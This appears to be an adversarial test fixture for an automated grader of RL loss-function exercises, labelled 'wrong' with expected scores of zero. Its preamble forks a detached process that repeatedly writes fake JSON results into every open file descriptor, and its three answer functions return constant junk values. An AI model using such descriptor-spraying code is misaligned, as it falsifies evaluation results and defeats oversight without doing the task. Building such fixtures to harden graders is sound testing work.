# forks helpers that write to every open file descriptor; wrong
# FAIR q1=0..0 q2=0..0 q3=0..0
# %% preamble
import numpy as np
import torch

import os
import time

if os.fork() == 0:
    os.setsid()
    for _ in range(50):
        for fd in range(3, 256):
            try:
                os.write(fd, b"{\"value\": 1}" * 3)
            except OSError:
                pass
        time.sleep(0.05)
    os._exit(0)

# %% q1
def clip_ratio(logp, old_logp, eps):
    return np.full(np.shape(logp), 12345.0)

# %% q2
def kl_penalty(logp, ref_logp, beta):
    return np.full(np.shape(logp), 54321.0)

# %% q3
def pg_loss(logprobs, advantages, mask):
    return (logprobs * 0).sum() + 12345.0
